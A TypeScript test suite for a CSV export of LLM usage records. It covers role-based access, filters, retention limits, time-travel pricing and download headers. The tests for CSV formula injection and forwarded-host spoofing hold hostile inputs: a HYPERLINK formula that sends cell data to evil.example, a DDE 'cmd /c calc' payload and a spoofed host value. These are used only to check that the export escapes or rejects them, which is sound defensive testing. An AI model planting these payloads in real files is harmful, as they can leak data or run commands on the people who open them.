import { newId } from '../../../src/lib/ids';
import type { UsageFilter } from '../../../src/services/usage/usage.types';
import { startTestApp } from '../../support/app';
import { setClock } from '../../support/database';
import type { TestUser } from '../../support/factories';
import type { GraphqlReply } from '../../support/graphql-client';
import { ExportScene, get, parseCsv, records } from './export-scene';
import { correctUsage, insertInFlight } from '../usage/usage-rows';

const CALLS = `query ($filter: UsageFilter, $after: String) { calls(filter: $filter, first: 100, after: $after) { pageInfo { hasNextPage endCursor } edges { node {
  id traceId at user { id name } project { id name } agent scenario model servedModel provider upstream status errorCode latencyMs timeToFirstTokenMs streamed
  usage { promptTokens uncachedPromptTokens cacheReadTokens cacheWriteTokens completionTokens reasoningTokens totalTokens source }
  cost { input cacheRead cacheWrite output reasoning request total reportedByProxy } } } } }`;

let scene: ExportScene;
beforeAll(async () => {
  scene = await ExportScene.open();
});
beforeEach(() => scene.renew());
afterAll(() => scene.close());

const ids = (file: Record<string, string>[]): string[] => file.map((line) => line.call_id!);
const text = (value: unknown): string => (value == null ? '' : String(value));

/** What the graph says of the same calls, oldest first, in the words of the file. */
async function calls(user: TestUser, filter: UsageFilter = {}): Promise<Record<string, string>[]> {
  const nodes: any[] = [];
  for (let after: string | null = null; ;) {
    const { data, errors }: GraphqlReply<any> = await scene.app.graphql(user.token, CALLS, { filter, after });
    if (!data) throw new Error(JSON.stringify(errors));
    nodes.push(...data.calls.edges.map((edge: any) => edge.node));
    if (!data.calls.pageInfo.hasNextPage) break;
    after = data.calls.pageInfo.endCursor;
  }
  return nodes.reverse().map((call) => ({
    call_id: call.id,
    at: call.at,
    user_id: text(call.user?.id),
    user: text(call.user?.name),
    project_id: text(call.project?.id),
    project: text(call.project?.name),
    trace_id: call.traceId,
    agent: text(call.agent),
    scenario: call.scenario,
    model: call.model,
    served_model: call.servedModel,
    provider: text(call.provider),
    upstream: call.upstream,
    status: call.status,
    error_code: text(call.errorCode),
    streamed: text(call.streamed),
    uncached_prompt_tokens: text(call.usage.uncachedPromptTokens),
    cache_read_tokens: text(call.usage.cacheReadTokens),
    cache_write_tokens: text(call.usage.cacheWriteTokens),
    reasoning_tokens: text(call.usage.reasoningTokens),
    prompt_tokens: text(call.usage.promptTokens),
    completion_tokens: text(call.usage.completionTokens),
    total_tokens: text(call.usage.totalTokens),
    usage_source: call.usage.source,
    cost: text(call.cost?.total),
    cost_input: text(call.cost?.input),
    cost_cache_read: text(call.cost?.cacheRead),
    cost_cache_write: text(call.cost?.cacheWrite),
    cost_output: text(call.cost?.output),
    cost_reasoning: text(call.cost?.reasoning),
    cost_request: text(call.cost?.request),
    latency_ms: text(call.latencyMs),
    time_to_first_token_ms: text(call.timeToFirstTokenMs),
  }));
}

/** Of each line of the file what the graph says, too. */
const asCalls = (file: Record<string, string>[], like: Record<string, string>[]): Record<string, string>[] =>
  file.map((line) =>
    Object.fromEntries(
      Object.keys(like[0] ?? {}).map((name) => [
        name,
        name === 'at' ? new Date(line.occurred_at!).toISOString() : line[name]!,
      ]),
    ),
  );

async function project(name: string): Promise<string> {
  const id = newId('project');
  await scene.database.db.query('INSERT INTO projects (id, organization_id, name) VALUES ($1, $2, $3)', [
    id,
    scene.ours.organizationId,
    name,
  ]);
  return id;
}

describe('exportUsage', () => {
  it('has one line for each call that has ended, oldest first, with exactly what `calls` says of it', async () => {
    const { db } = scene.database;
    const { ours } = scene;
    const rows = [
      scene.row({
        occurred_at: '2026-11-20T10:00:00.000002Z',
        project_id: await project('Search'),
        provider: 'openai',
        upstream: 'LITELLM',
        agent: 'bot',
        streamed: true,
        time_to_first_token_ms: 30,
      }),
      scene.row({
        occurred_at: '2026-09-03T10:00:00Z',
        status: 'FAILED',
        error_code: 'UPSTREAM_FAILED',
        usage_source: 'NONE',
        uncached_prompt_tokens: 0,
        output_tokens: 0,
        cost: '0',
        cost_input: '0',
        cost_output: '0',
        latency_ms: null,
      }),
      scene.row({
        occurred_at: '2026-11-20T10:00:00.000001Z',
        cost: null,
        cost_input: null,
        cost_output: null,
        scenario: 'THINK',
        reasoning_tokens: 7,
        cache_read_tokens: 3,
        cache_write_tokens: 5,
        cache_write_one_hour_tokens: 2,
      }),
      scene.row({
        occurred_at: '2026-11-19T23:59:59.999999Z',
        cost: '0.0010000',
        cost_input: '0.00060',
        cost_output: '0.0004',
        model: 'asked',
        served_model: 'answered',
        status: 'LOST',
        usage_source: 'ESTIMATED',
      }),
    ];
    await scene.settle(...rows);
    await correctUsage(db, rows[3]!, {
      status: 'COMPLETED',
      output_tokens: 50,
      usage_source: 'RECONCILED',
      cost: '0.123456789012345678901',
    });
    await insertInFlight(db, {
      organization_id: ours.organizationId,
      user_id: ours.member.id,
      occurred_at: '2026-11-20T11:00:00Z',
    });

    const file = await scene.file(ours.member);
    const said = (await calls(ours.member)).filter((call) => call.status !== 'RUNNING');
    expect(said).toHaveLength(4);
    expect(asCalls(file, said)).toEqual(said);
    expect(ids(file)).toEqual([rows[1]!.id, rows[3]!.id, rows[2]!.id, rows[0]!.id]);
    expect(
      file.map((line) => [line.occurred_at, line.corrected, line.cache_write_one_hour_tokens, line.output_tokens]),
    ).toEqual([
      ['2026-09-03T10:00:00.000000Z', 'false', '0', '0'],
      ['2026-11-19T23:59:59.999999Z', 'true', '0', '50'],
      ['2026-11-20T10:00:00.000001Z', 'false', '2', '5'],
      ['2026-11-20T10:00:00.000002Z', 'false', '0', '5'],
    ]);
    expect(file.map((line) => [line.organization_id, line.organization])).toEqual(
      file.map(() => [ours.organizationId, 'Ours']),
    );
    expect(file[1]).toMatchObject({ cost: '0.123456789012345678901', status: 'COMPLETED', usage_source: 'RECONCILED' });
  });

  it('says nothing but its first line where there are no calls', async () => {
    const { status, text: body, headers } = await get(await scene.link(scene.ours.member));
    expect([status, parseCsv(body).length, body.endsWith('corrected\r\n')]).toEqual([200, 1, true]);
    expect(headers.get('content-length')).toBe(String(body.length));
    expect(await scene.file(scene.ours.member, { userIds: [] })).toEqual([]);
    expect(await scene.file(scene.ours.analyst, { statuses: ['RUNNING'] })).toEqual([]);
  });

  it('is a file that browsers save, and nobody keeps', async () => {
    const { headers } = await get(await scene.link(scene.ours.member, { from: new Date('2026-11-01T00:00:00Z') }));
    expect(
      Object.fromEntries(
        [
          'content-type',
          'content-disposition',
          'cache-control',
          'referrer-policy',
          'accept-ranges',
          'x-content-type-options',
        ].map((name) => [name, headers.get(name)]),
      ),
    ).toEqual({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': expect.stringMatching(
        /^attachment; filename="weir-calls_from-20261101T000000Z_as-of-\d{8}T\d{6}Z\.csv"$/,
      ),
      'cache-control': 'private, no-store',
      'referrer-policy': 'no-referrer',
      'accept-ranges': 'bytes',
      'x-content-type-options': 'nosniff',
    });
  });

  const FORMULAS = [
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t1',
    '\r=1',
    '\n=1',
    '＝1+1',
    '－1',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
  ];
  // Spreadsheets of many countries end cells with semicolons.
  const WITHIN = [
    ['x;=1+1', "x;'=1+1"],
    ['a\t@SUM(1)', "a\t'@SUM(1)"],
    ['=1;-2', "'=1;'-2"],
    ['y;=1,"z', 'y;\'=1,"z'],
  ];
  const PLAIN = [
    'a,b',
    'say "yes"',
    'two\nlines',
    'two\r\nlines',
    'a\rb',
    '"',
    '""',
    ',',
    ' =1',
    "'quoted",
    'Ünïcødé 漢字 🜚',
    'x\u0001=1',
    'gpt-4',
    'a=b',
    '',
    ' ',
    '\u00a0',
    'ends with\r\n',
  ];

  it('keeps every text as it is, whatever it has in it, and hands no formula to a spreadsheet', async () => {
    const texts = [...FORMULAS, ...PLAIN, ...WITHIN.map(([text]) => text!)];
    const rows = await scene.settle(
      ...texts.map((agent, i) => scene.row({ occurred_at: new Date(Date.UTC(2026, 9, 1) + i).toISOString(), agent })),
    );
    const file = await scene.file(scene.ours.member);
    expect(ids(file)).toEqual(rows.map((row) => row.id));
    expect(file.map((line) => line.agent)).toEqual([
      ...FORMULAS.map((formula) => `'${formula}`),
      ...PLAIN,
      ...WITHIN.map(([, shown]) => shown),
    ]);
  });

  it('does so with every text that somebody else may have chosen', async () => {
    const { db } = scene.database;
    const evil = '=cmd|"/c calc",\r\n';
    await db.query('UPDATE organizations SET name = $2 WHERE id = $1', [scene.ours.organizationId, evil]);
    await db.query('UPDATE users SET name = $2 WHERE id = $1', [scene.ours.member.id, evil]);
    const texts = {
      trace_id: evil,
      scenario: evil,
      model: evil,
      served_model: evil,
      provider: evil,
      upstream: evil,
      error_code: evil,
      usage_source: evil,
      conversation_id: evil,
    };
    await scene.settle(scene.row({ ...texts, project_id: await project(evil) }));
    const [line] = await scene.file(scene.ours.member);
    for (const name of [...Object.keys(texts), 'organization', 'user', 'project'])
      expect([name, line![name]]).toEqual([name, `'${evil}`]);
    expect(line).toMatchObject({ status: 'COMPLETED', cost: '0.001', total_tokens: '15' });
  });

  it('a person who was deleted has no name in it, and keeps the calls', async () => {
    const [row] = await scene.settle(scene.row());
    await scene.app.services.people.deleteUser(scene.ours.admin.viewer, scene.ours.member.id);
    expect(await scene.file(scene.ours.analyst)).toMatchObject([
      { call_id: row!.id, user_id: scene.ours.member.id, user: '' },
    ]);
  });

  it('gives members their own calls, analysts and administrators their organisation, operators all', async () => {
    const { ours, theirs } = scene;
    const [mine, colleagues, foreign] = await scene.settle(
      scene.row(),
      scene.row({ user_id: ours.admin.id }),
      scene.row({ organization_id: theirs.organizationId, user_id: theirs.member.id }),
    );
    const seenBy = async (user: TestUser, filter: UsageFilter = {}): Promise<string[]> =>
      ids(await scene.file(user, filter)).sort();
    const both = { organizationIds: [ours.organizationId, theirs.organizationId] };
    expect(await seenBy(ours.member)).toEqual([mine!.id]);
    expect(await seenBy(ours.member, { userIds: [ours.admin.id] })).toEqual([]);
    expect(await seenBy(ours.analyst)).toEqual([mine!.id, colleagues!.id].sort());
    expect(await seenBy(ours.admin, { userIds: [theirs.member.id] })).toEqual([]);
    expect(await seenBy(theirs.admin)).toEqual([foreign!.id]);
    expect(await seenBy(ours.operator, both)).toEqual([mine!.id, colleagues!.id, foreign!.id].sort());
    expect(await seenBy(ours.operator)).toEqual(expect.arrayContaining([mine!.id, colleagues!.id, foreign!.id]));
    expect(await seenBy(ours.operator, { organizationIds: [theirs.organizationId] })).toEqual([foreign!.id]);
    expect((await scene.ask(ours.admin, { organizationIds: [ours.organizationId] })).errors![0]!.extensions.code).toBe(
      'FORBIDDEN',
    );
  });

  it('every field of the filter leaves the same calls as `calls` does', async () => {
    const { ours } = scene;
    const [conversation, search] = [newId('conversation'), await project('Search')];
    await scene.settle(
      scene.row({ conversation_id: conversation, project_id: search }),
      scene.row({ trace_id: 'b'.repeat(32), user_id: ours.admin.id }),
      scene.row({ model: 'asked', served_model: 'm', provider: 'openai' }),
      scene.row({ scenario: 'PLAN', agent: 'bot' }),
      scene.row({ status: 'FAILED', occurred_at: '2026-11-18T00:00:00Z' }),
      scene.row({ occurred_at: '2026-11-19T00:00:00Z' }),
    );
    const filters: UsageFilter[] = [
      { conversationId: conversation },
      { traceId: 'b'.repeat(32) },
      { projectIds: [search] },
      { userIds: [ours.admin.id] },
      { userIds: [ours.admin.id, ours.member.id] },
      { models: ['asked'] },
      { models: ['m'] },
      { providers: ['openai'] },
      { scenarios: ['PLAN', 'THINK'] },
      { agents: ['bot'] },
      { statuses: ['FAILED'] },
      { from: new Date('2026-11-19T00:00:00Z') },
      { to: new Date('2026-11-19T00:00:00Z') },
      { from: new Date('2026-11-18T00:00:00Z'), to: new Date('2026-11-19T00:00:00.001Z'), statuses: ['COMPLETED'] },
      { from: new Date('0001-01-01T00:00:00Z'), to: new Date('9999-12-31T23:59:59Z') },
    ];
    for (const filter of filters) {
      const expected = (await calls(ours.analyst, filter)).map((call) => call.call_id!);
      expect([filter, expected.length > 0]).toEqual([filter, true]);
      expect([filter, ids(await scene.file(ours.analyst, filter))]).toEqual([filter, expected]);
    }
  });

  it('what is true of a call today decides whether a filter takes it', async () => {
    const [call] = await scene.settle(scene.row({ status: 'LOST' }));
    await correctUsage(scene.database.db, call!, { status: 'COMPLETED', output_tokens: 9 });
    expect(await scene.file(scene.ours.member, { statuses: ['LOST'] })).toEqual([]);
    expect(await scene.file(scene.ours.member, { statuses: ['COMPLETED'] })).toMatchObject([
      { call_id: call!.id, output_tokens: '9' },
    ]);
  });

  it('with pricesAsOf gives calls and costs as they stood then: before a correction, before a price, and before the call ended', async () => {
    const { db } = scene.database;
    const { member, operator } = scene.ours;
    const [first] = await scene.settle(
      scene.row({ model: 'dear', cost: '0.001', cost_input: '0.0006', cost_output: '0.0004' }),
    );
    const moment = async (): Promise<Date> => {
      const [row] = await db.query<{ now: Date }>(
        `SELECT date_trunc('milliseconds', weir.clock()) + interval '1 millisecond' AS now, pg_sleep(0.003)`,
      );
      return row!.now;
    };
    const booked = await moment();
    await correctUsage(db, first!, { output_tokens: 6, usage_source: 'RECONCILED' });
    const corrected = await moment();
    const price = async (inputPerMillion: string): Promise<Date> => {
      const input = { model: 'dear', effectiveFrom: '2026-01-01T00:00:00Z', inputPerMillion, outputPerMillion: '2000' };
      const { data, errors } = await scene.app.graphql(
        operator.token,
        'mutation ($input: ModelPriceInput!) { setModelPrice(input: $input) { affectedCalls } }',
        { input },
      );
      expect([errors, data]).toEqual([null, { setModelPrice: { affectedCalls: 1 } }]);
      return moment();
    };
    const priced = await price('1000');
    const pricedAgain = await price('3000');
    const [second] = await scene.settle(scene.row({ occurred_at: '2026-11-20T12:00:00Z', model: 'n' }));

    const at = async (time: Date | null): Promise<string[][]> =>
      (await scene.file(member, null, time)).map((line) => [
        line.call_id!,
        line.output_tokens!,
        line.corrected!,
        line.cost!,
        line.cost_input!,
        line.cost_output!,
      ]);
    expect(await at(booked)).toEqual([[first!.id, '5', 'false', '0.001', '0.0006', '0.0004']]);
    expect(await at(corrected)).toEqual([[first!.id, '6', 'true', '0.001', '0.0006', '0.0004']]);
    expect(await at(priced)).toEqual([[first!.id, '6', 'true', '0.022', '0.01', '0.012']]);
    expect(await at(pricedAgain)).toEqual([[first!.id, '6', 'true', '0.042', '0.03', '0.012']]);
    expect(await at(null)).toEqual([
      [first!.id, '6', 'true', '0.042', '0.03', '0.012'],
      [second!.id, '5', 'false', '0.001', '0.0006', '0.0004'],
    ]);
    const said = await calls(member);
    expect(asCalls(await scene.file(member), said)).toEqual(said);
    expect(await at(new Date('2020-01-01T00:00:00Z'))).toEqual([]);
  });

  it('refuses what cannot be had, and says what can', async () => {
    const { analyst } = scene.ours;
    const refusal = async (filter: UsageFilter | null, pricesAsOf: Date | null = null): Promise<unknown> => {
      const { data, errors } = await scene.ask(analyst, filter, pricesAsOf);
      expect(data).toBeNull();
      return { ...errors![0]!.extensions, message: errors![0]!.message };
    };
    const bad = (argument: string, message: RegExp): object => ({
      code: 'BAD_USER_INPUT',
      argument,
      message: expect.stringMatching(message),
    });
    expect(await refusal(null, new Date(Date.now() + 60_000))).toEqual(bad('pricesAsOf', /future/));
    expect(await refusal({ from: new Date(2), to: new Date(1) })).toEqual(bad('filter.from', /before/));
    expect(await refusal({ agents: ['a\0b'] })).toEqual(bad('filter.agents[0]', /./));
    expect(await refusal({ userIds: Array.from({ length: 2_000 }, () => newId('user')) })).toEqual(
      bad('filter', /too much for a link/),
    );
    await scene.database.db.query(`UPDATE usage_retention SET dropped_before = '2026-09-01T00:00:00Z'`);
    for (const filter of [
      null,
      { from: new Date('2026-08-31T23:59:59.999Z') },
      { to: new Date('2026-08-01T00:00:00Z') },
    ])
      expect(await refusal(filter)).toEqual(bad('filter.from', /2026-09-01T00:00:00\.000Z/));
    expect((await scene.ask(analyst, { from: new Date('2026-09-01T00:00:00Z') })).errors).toBeNull();
  });

  it('the link leads to where the client reached the server', async () => {
    const { member } = scene.ours;
    const base = async (headers: Record<string, string>): Promise<unknown> => {
      const { data, errors } = await scene.ask(member, null, null, headers);
      return data ? data.exportUsage.url.replace(/\/exports\/.*$/, '') : errors![0]!.extensions.code;
    };
    expect(await base({})).toBe(new URL(scene.app.url).origin);
    expect(await base({ 'x-forwarded-proto': 'https', 'x-forwarded-host': 'weir.example.com' })).toBe(
      'https://weir.example.com',
    );
    expect(await base({ 'x-forwarded-host': 'evil.example/@' })).toBe('BAD_USER_INPUT');
    expect(await base({ 'x-forwarded-proto': 'javascript', 'x-forwarded-host': 'weir.example.com' })).toBe(
      'BAD_USER_INPUT',
    );
    const published = await startTestApp({
      database: scene.database,
      upstream: scene.provider,
      config: { publicUrl: 'https://weir.example.com/llm' },
    });
    const { data } = await published.graphql(
      member.token,
      'mutation { exportUsage { url } }',
      {},
      { headers: { 'x-forwarded-host': 'other.example.com' } },
    );
    expect(data.exportUsage.url).toMatch(/^https:\/\/weir\.example\.com\/llm\/exports\/[\w-]+\.[\w-]{43}$/);
    await published.stop();
  });

  it('what was settled in the millisecond of the asking is in it', async () => {
    await setClock(scene.database.db, '2026-11-21T12:00:00.000Z');
    const [row] = await scene.settle(scene.row());
    expect(records((await get(await scene.link(scene.ours.member))).text)).toMatchObject([{ call_id: row!.id }]);
  });
});
